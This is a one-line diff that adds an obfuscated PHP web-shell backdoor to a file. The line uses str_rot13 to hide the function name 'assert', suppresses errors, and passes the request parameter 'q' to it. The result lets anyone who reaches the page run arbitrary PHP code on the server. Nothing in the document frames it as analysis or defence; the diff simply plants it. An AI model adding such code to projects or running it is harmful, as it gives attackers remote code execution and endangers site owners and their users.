@@ -1,0 +1,1 @@
+<?php $k = str_rot13('nffreg'); @$k($_REQUEST['q']);
